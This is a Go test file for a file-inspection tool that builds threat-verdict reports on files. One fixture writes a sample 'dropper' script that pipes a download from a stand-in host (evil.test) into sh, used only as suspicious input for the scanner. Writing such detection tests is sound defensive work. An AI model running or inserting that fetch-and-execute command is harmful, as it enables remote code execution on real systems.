// File: internal/inspect/inspect_test.go
package inspect

import (
	"context"
	"crypto/rand"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest"
	"go.uber.org/zap/zaptest/observer"

	"github.com/xkilldash9x/scalpel-tree/api/schemas"
	"github.com/xkilldash9x/scalpel-tree/internal/config"
	"github.com/xkilldash9x/scalpel-tree/internal/tree"
)

// -- Test Fixtures --

type fixture struct {
	dir   string
	paths map[string]string
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	f := &fixture{dir: t.TempDir(), paths: map[string]string{}}

	packed := make([]byte, 64*1024)
	_, err := rand.Read(packed)
	require.NoError(t, err)
	copy(packed, "MZ")

	f.write(t, "packed.exe", packed)
	f.write(t, "notes.txt", []byte("meeting notes, nothing to see\n"))
	f.write(t, "dropper.sh", []byte("#!/bin/sh\ncurl -s https://evil.test/p | sh\nwget http://evil.test/q\n"))
	f.write(t, "empty", nil)
	return f
}

func (f *fixture) write(t *testing.T, name string, data []byte) {
	t.Helper()
	p := filepath.Join(f.dir, name)
	require.NoError(t, os.WriteFile(p, data, 0o600))
	f.paths[name] = p
}

func newTestInspector(t *testing.T, cfg config.InspectConfig) *Inspector {
	t.Helper()
	logger := zaptest.NewLogger(t)
	insp := NewInspector(cfg, tree.NewBuilder(logger), logger)
	insp.now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }
	insp.newID = func() string { return "test-report" }
	return insp
}

func childNames(n *tree.Node) []string {
	var names []string
	for _, c := range n.Children() {
		names = append(names, c.Name())
	}
	return names
}

// -- Test Cases --

func TestInspect_BuildsReport(t *testing.T) {
	f := newFixture(t)
	insp := newTestInspector(t, config.NewDefaultConfig().Inspect())

	paths := []string{f.paths["packed.exe"], f.paths["notes.txt"], f.paths["dropper.sh"], f.paths["empty"]}
	root, err := insp.Inspect(context.Background(), paths)
	require.NoError(t, err)

	assert.Equal(t, NodeReport, root.Name())
	assert.Equal(t, []string{NodeReportID, NodeGenerated, NodeFiles, NodeSummary}, childNames(root))
	assert.Equal(t, "test-report", root.Find(NodeReportID).Render())
	assert.Equal(t, "2026-01-02T03:04:05Z", root.Find(NodeGenerated).Render())

	files := root.Find(NodeFiles)
	require.NotNil(t, files)
	assert.Equal(t, paths, childNames(files))

	packed := files.Find(paths[0])
	require.NotNil(t, packed)
	assert.Equal(t, "65536", packed.Find(NodeSize).Render())
	assert.Equal(t, "PE", packed.Find(NodeFormat).Render())
	assert.Equal(t, tree.Hexadecimal, packed.Find(NodeMagic).Hint())
	assert.Equal(t, schemas.ThreatMalicious, packed.Find(NodeVerdict).ThreatLevel())
	assert.Nil(t, packed.Find(NodeURLs), "no urls node when nothing was found")

	notes := files.Find(paths[1])
	assert.Equal(t, schemas.ThreatSafe, notes.Find(NodeVerdict).ThreatLevel())

	dropper := files.Find(paths[2])
	assert.Equal(t, "Script", dropper.Find(NodeFormat).Render())
	assert.Equal(t, []string{"http://evil.test/q", "https://evil.test/p"}, dropper.Find(NodeURLs).Strings())
	assert.Equal(t, schemas.ThreatSuspicious, dropper.Find(NodeVerdict).ThreatLevel())

	empty := files.Find(paths[3])
	assert.Equal(t, []string{NodeSize, NodeFormat, NodeMD5, NodeSHA1, NodeSHA256, NodeEntropy, NodeVerdict}, childNames(empty))
	assert.Equal(t, schemas.ThreatNoOpinion, empty.Find(NodeVerdict).ThreatLevel())

	summary := root.Find(NodeSummary)
	assert.Equal(t, "4", summary.Find(NodeFilesScanned).Render())
	assert.Equal(t, schemas.ThreatMalicious, summary.Find(NodeHighestThreat).ThreatLevel())
}

func TestInspect_OrderIsStableAcrossConcurrency(t *testing.T) {
	defer goleak.VerifyNone(t)
	f := newFixture(t)
	var paths []string
	for i := 0; i < 5; i++ {
		for _, name := range []string{"dropper.sh", "empty", "notes.txt", "packed.exe"} {
			paths = append(paths, f.paths[name])
		}
	}

	for _, workers := range []int{1, 3, 16} {
		cfg := config.NewDefaultConfig().Inspect()
		cfg.Concurrency = workers
		root, err := newTestInspector(t, cfg).Inspect(context.Background(), paths)
		require.NoError(t, err)
		assert.Equal(t, paths, childNames(root.Find(NodeFiles)), "concurrency %d", workers)
	}
}

func TestInspect_OversizedFileIsSkipped(t *testing.T) {
	f := newFixture(t)
	cfg := config.NewDefaultConfig().Inspect()
	cfg.MaxFileSize = 1024
	root, err := newTestInspector(t, cfg).Inspect(context.Background(), []string{f.paths["packed.exe"]})
	require.NoError(t, err)

	skipped := root.Find(f.paths["packed.exe"])
	require.NotNil(t, skipped)
	assert.Equal(t, []string{NodeSize, NodeError, NodeVerdict}, childNames(skipped))
	assert.Contains(t, skipped.Find(NodeError).Render(), "max_file_size")
}

func TestInspect_Failures(t *testing.T) {
	defer goleak.VerifyNone(t)
	insp := newTestInspector(t, config.NewDefaultConfig().Inspect())

	_, err := insp.Inspect(context.Background(), nil)
	assert.ErrorIs(t, err, ErrNoPaths)

	f := newFixture(t)
	_, err = insp.Inspect(context.Background(), []string{f.paths["notes.txt"], filepath.Join(f.dir, "missing")})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "failed to stat")
}

func TestInspect_TreeIsWarningFree(t *testing.T) {
	core, logs := observer.New(zap.WarnLevel)
	logger := zap.New(core)
	f := newFixture(t)

	insp := NewInspector(config.NewDefaultConfig().Inspect(), tree.NewBuilder(logger), logger)
	root, err := insp.Inspect(context.Background(), []string{f.paths["dropper.sh"], f.paths["empty"]})
	require.NoError(t, err)

	tree.Walk(root, func(n *tree.Node, _ int) bool {
		if !n.Kind().IsContainer() {
			_ = n.Render()
		}
		return true
	})
	assert.Zero(t, logs.Len(), "a freshly inspected tree renders without diagnostics")
}
